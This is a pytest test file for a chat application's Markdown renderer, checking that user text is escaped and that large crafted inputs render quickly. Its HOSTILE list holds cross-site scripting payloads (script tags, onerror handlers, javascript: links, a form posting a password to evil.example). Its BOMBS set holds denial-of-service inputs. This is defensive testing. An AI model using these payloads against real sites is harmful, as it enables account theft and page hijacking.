"""Text -> HTML: what people write is shown, what they inject is not."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from groups.markdown import _rendered, render
from groups.models import Channel, User
from tests.cast import Api

SAFE_TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
SAFE_ATTRIBUTES = {"href", "title", "rel", "start", "class"}


class Parts(HTMLParser):
    """The tags and attributes that a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>*{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<b onclick=alert(1) style='position:fixed'>x</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://example.org "title" onmouseover="alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_somebody_injects_is_inert(text: str) -> None:
    parts = Parts(render(text))

    assert parts.tags <= SAFE_TAGS
    assert parts.attributes <= SAFE_ATTRIBUTES
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in parts.links), parts.links


def test_html_is_shown_as_it_was_typed() -> None:
    assert render("a <b>bold</b> & <i>claim</i>") == "<p>a &lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;claim&lt;/i&gt;</p>"


def test_links_open_nothing_of_ours() -> None:
    assert render("[notes](https://example.org/a?b=1&c=2)") == (
        '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">notes</a></p>'
    )


def test_an_image_is_a_link_to_it() -> None:
    assert render("![cat](https://example.org/cat.png)") == (
        '<p>!<a href="https://example.org/cat.png" rel="noopener noreferrer nofollow">cat</a></p>'
    )


def test_emphasis_lists_quotes_and_tables_are_rendered() -> None:
    assert render("**a** *b* ~~c~~") == "<p><strong>a</strong> <em>b</em> <s>c</s></p>"
    assert Parts(render("1. a\n2. b\n\n> c\n\n| d |\n|---|\n| e |")).tags >= {"ol", "li", "blockquote", "table", "td"}


def test_a_line_end_is_a_line_end() -> None:
    assert "<br>" in render("one\ntwo")


def test_code_keeps_its_lines_spaces_and_brackets() -> None:
    html = render("```python\nif a < b:\n    print('**no**')\n```")

    assert html == "<pre><code class=\"language-python\">if a &lt; b:\n    print('**no**')\n</code></pre>"


def test_japanese_is_kept_and_may_be_emphasised() -> None:
    assert render("おはよう、**世界**!🍰") == "<p>おはよう、<strong>世界</strong>!🍰</p>"


def fill(part: str) -> str:
    return (part * 4000)[:4000]


BOMBS = {
    **{
        f"many {part!r}": fill(part) for part in ("*", "_", "`", "[", "]", ">", "(", "!", "~", "<", "|", "#", "\\", "&")
    },
    "open emphasis": fill("*a "),
    "open strong": fill("**a"),
    "mixed emphasis": fill("*_"),
    "closers without openers": fill("a**"),
    "emphasis both ways": fill("a**b") + "c* ",
    "open links": fill("[a]("),
    "nested links": "[" * 1300 + "a" + "](b)" * 600,
    "nested images": fill("![a"),
    "nested quotes": fill("> "),
    "nested lists": "\n".join(" " * depth + "- a" for depth in range(85)),
    "many lists": fill("- a\n1. b\n"),
    "deep quotes of lists": fill("> - "),
    "wide table": "|".join("a" * 600) + "\n" + "|".join(["-"] * 600) + "\n" + "|" * 1500,
    "long table": "a|b\n-|-\n" + fill("|\n"),
    "unclosed code": "".join("`" * length + " " for length in range(1, 88)),
    "many cells": "|".join("a" * 50) + "\n" + "|".join("-" * 50) + "\n" + "|\n" * 1900,
    "uses of a long reference": "[a]: https://example.org/" + "a" * 2000 + "\n\n" + fill("[a]"),
    "references": fill("[a]: b\n"),
    "uses of references": "[a]: b\n\n" + fill("[a]"),
    "html": fill("<a "),
    "comments": fill("<!--"),
    "entities": fill("&amp;"),
    "unknown entities": fill("&a"),
    "autolinks": fill("<http://a"),
    "backslashes in links": "[a](" + fill("\\("),
    "tildes": fill("~~a "),
    "breaks": fill("a  \n"),
    "rules": fill("---\n"),
    "headings": fill("a\n=\n"),
}


@pytest.mark.parametrize("name", BOMBS)
def test_no_text_of_4000_characters_keeps_the_server_busy_or_grows_without_end(name: str) -> None:
    started = time.process_time()

    html = render(BOMBS[name][:4000])

    assert time.process_time() - started < 0.5
    assert len(html) <= 64 * 1024


def test_what_would_grow_without_end_is_shown_as_it_was_typed() -> None:
    text = BOMBS["uses of a long reference"][:4000]

    html = render(text)

    assert html.startswith("<p>[a]: https://example.org/aaa")
    assert html.count("[a]") == text.count("[a]")


def test_a_table_of_many_cells_is_shown_as_it_was_typed() -> None:
    assert "<table>" in render("a|b\n-|-\n" + "c|d\n" * 200)
    assert "<table>" not in render(BOMBS["many cells"])


def test_the_page_gets_the_cleaned_html_and_programs_the_text(api: Api, general: Channel, ada: User) -> None:
    text = "<script>alert(1)</script> **お茶**"

    message = api(ada)("message.send", channel_id=general.pk, body=text).body["message"]

    assert message["body"] == text
    assert message["html"] == "<p>&lt;script&gt;alert(1)&lt;/script&gt; <strong>お茶</strong></p>"


LETTERS = st.sampled_from([*"ab1 ~-+=.)(:/\"'!\n", "é", "語", "\u3000", "\u00a0", "\u200b", "\ufeff", "\U0001f600"])
"""What plain text is made of, and what makes it something else at its beginning, doubled or at its end."""


@settings(max_examples=1000)
@given(st.text(LETTERS, min_size=1, max_size=8) | st.text(min_size=1, max_size=12))
def test_text_without_markdown_becomes_what_the_renderer_makes_of_it(body: str) -> None:
    assert render(body) == _rendered(body)
